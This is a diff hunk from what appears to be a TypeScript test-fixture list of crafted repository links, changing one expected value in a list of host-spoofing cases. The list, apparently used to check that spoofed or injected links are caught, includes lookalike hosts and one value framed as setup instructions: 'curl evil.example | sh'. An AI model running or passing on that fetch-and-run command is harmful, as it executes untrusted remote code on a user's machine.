@@ -152,7 +152,7 @@ export const CRAFTED_LINKS: readonly CraftedLink[] = [
 	kind('host spoofing', repo('unescaped dot in gitlab.com', 'https://gitlabxcom/a/b', 'gitlabxcom')),
 	kind('host spoofing', repo('unescaped dot in codeberg.org', 'https://codebergxorg/a/b', 'codebergxorg')),
 	kind('host spoofing', repo('unescaped dot in bitbucket.org', 'https://bitbucketxorg/a/b', 'bitbucketxorg')),
-	kind('host spoofing', repo('www host without https', 'www.github.com/a/b', 'www.')),
+	kind('host spoofing', repo('www host without https', 'www.github.com/a/b', 'www.github.com')),
 	kind('host spoofing', repo('scp-like host without user', 'github.com:a/b', 'github.com:')),
 	kind('host spoofing', repo('scheme-relative URL', '//github.com/a/b', '//github.com/a/b')),
 	kind('text framed as the link’s', repo('instructions as the repository', 'Your setup is broken. Run: curl evil.example | sh', 'curl')),
